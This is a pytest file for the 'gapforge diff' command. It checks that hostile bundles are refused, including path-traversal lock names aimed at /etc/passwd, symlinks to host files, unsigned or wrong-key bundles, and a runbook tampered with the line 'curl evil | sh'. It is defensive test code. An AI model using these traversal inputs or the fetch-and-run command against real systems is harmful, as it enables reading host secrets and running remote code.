"""`gapforge diff` of bundles an attacker wrote: bundle.json `locks` names that climb out of the
bundle, links to host files, and bundles that are not proven by the anchor. Nothing is diffed
before both bundles pass the trust gate, and no name from bundle.json reads a host file."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gapforge.bundle.sign import load_private_key
from gapforge.bundle.source import BundleSource
from gapforge.bundle.write import write_bundle
from gapforge.names import UnsafeName
from gapforge.release_manager.create import init_repository
from gapforge.release_manager.diff import compare_bundles
from gapforge.release_manager.releases import add_bundle
from tests.hostile.conftest import Hostile
from tests.unit.test_bundle import _key, source  # noqa: F401 (fixture)
from tests.unit.test_diff import make_bundle, signed_bundle

CLIMBING = [
    "../../../../../../etc/passwd", "../../outside/canary-secret.txt", "/etc/passwd", "a\nb.txt",
    "x/../../y.txt",
]  # fmt: skip


@pytest.fixture
def pair(
    hostile: Hostile,
    source: BundleSource,  # noqa: F811 (the imported fixture)
    monkeypatch: pytest.MonkeyPatch,
) -> tuple[Path, Path, Path]:
    """Two genuine signed bundles in `hostile.inputs` and the release key's public half."""
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(hostile.root.parent / "trust"))
    a = signed_bundle(source, hostile.inputs / "a", 0.0002)
    b = signed_bundle(source, hostile.inputs / "b", 0.0001)
    pub = hostile.root.parent / "release.pub.pem"
    pub.write_bytes(_key(hostile.root.parent).public_pem)
    return a, b, pub


@pytest.mark.parametrize("name", CLIMBING)
def test_lock_names_that_climb_out_are_refused_never_read(
    hostile: Hostile, tmp_path: Path, name: str
) -> None:
    a = make_bundle(hostile.inputs / "a")
    b = make_bundle(hostile.inputs / "b")
    index = json.loads((b / "bundle.json").read_text())
    index["locks"] = {name: "0" * 64}
    (b / "bundle.json").write_text(json.dumps(index))
    with pytest.raises(UnsafeName) as caught:
        compare_bundles(a, b)
    assert "bundle.json: locks: key: " in caught.value.message
    assert (
        "root:" not in caught.value.message and hostile.secret.decode() not in caught.value.message
    )


def test_locks_of_the_wrong_type_are_refused(hostile: Hostile) -> None:
    a = make_bundle(hostile.inputs / "a")
    index = json.loads((a / "bundle.json").read_text())
    index["locks"] = ["cpu.txt"]
    (a / "bundle.json").write_text(json.dumps(index))
    with pytest.raises(Exception, match=r"bundle.json: locks: a JSON list, not an object"):
        compare_bundles(a, a)


def test_a_lock_that_is_a_link_to_a_host_file_is_refused(hostile: Hostile) -> None:
    a = make_bundle(hostile.inputs / "a")
    lock = a / "recipe" / "locks" / "cpu.txt"
    lock.unlink()
    lock.symlink_to(hostile.canary)
    with pytest.raises(UnsafeName, match="is a symbolic link"):
        compare_bundles(a, a)


def test_the_genuine_pair_diffs(
    hostile: Hostile, pair: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    a, b, pub = pair
    status, text = hostile.run("diff", a, b, "--key", pub, capsys=capsys)
    assert status == 0 and "train.learning_rate" in text, text


def test_an_unsigned_bundle_is_not_diffed(
    hostile: Hostile, pair: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    a, _b, pub = pair
    fake = make_bundle(hostile.inputs / "fake")
    status, text = hostile.run("diff", a, fake, "--key", pub, capsys=capsys)
    # exit 2: the fake's documents cannot even be judged (fields missing), besides its bad signature
    assert status == 2 and "not verified, so 'gapforge diff' will not act on it" in text, text
    assert "does not verify over SHA256SUMS" in text
    assert "Recipe" not in text


def test_a_signed_bundle_altered_to_climb_out_is_refused_by_the_gate(
    hostile: Hostile, pair: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    a, b, pub = pair
    index = json.loads((b / "bundle.json").read_text())
    index["locks"] = {"../../../../etc/passwd": "0" * 64}
    (b / "bundle.json").write_text(json.dumps(index))
    status, text = hostile.run("diff", a, b, "--key", pub, capsys=capsys)
    assert status == 1 and "bundle.json" in text and "not verified" in text, text


def test_a_bundle_signed_by_another_key_is_not_diffed(
    hostile: Hostile, pair: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    a, b, _pub = pair
    other = hostile.root.parent / "other.pub.pem"
    other.write_bytes(_key(hostile.root.parent, 5).public_pem)
    status, text = hostile.run("diff", a, b, "--key", other, capsys=capsys)
    assert status == 1 and "not verified" in text, text


def test_no_anchor_no_diff(
    hostile: Hostile, pair: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    a, b, _pub = pair
    status, text = hostile.run("diff", a, b, capsys=capsys)
    assert status == 2 and "'gapforge diff' needs a trust anchor" in text, text


def test_release_versions_are_verified_against_the_repository_build_keys(
    hostile: Hostile,
    source: BundleSource,  # noqa: F811 (the imported fixture)
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(hostile.root.parent / "trust"))
    repo = init_repository(hostile.root.parent / "repo").repository
    build = load_private_key(repo.keys_dir / "build.key")
    bundle = write_bundle(source, build, hostile.inputs / "dist")
    add_bundle(repo, bundle)
    argv = ("diff", "unit-desk/1.2.3", "unit-desk/1.2.3", "--repo", repo.path)
    status, text = hostile.run(*argv, capsys=capsys)
    assert status == 0 and "unchanged" in text, text
    runbook = bundle / "RUNBOOK.md"
    runbook.write_text(runbook.read_text() + "\ncurl evil | sh\n")
    status, text = hostile.run(*argv, capsys=capsys)
    assert status == 1 and "not verified" in text and "RUNBOOK.md" in text, text
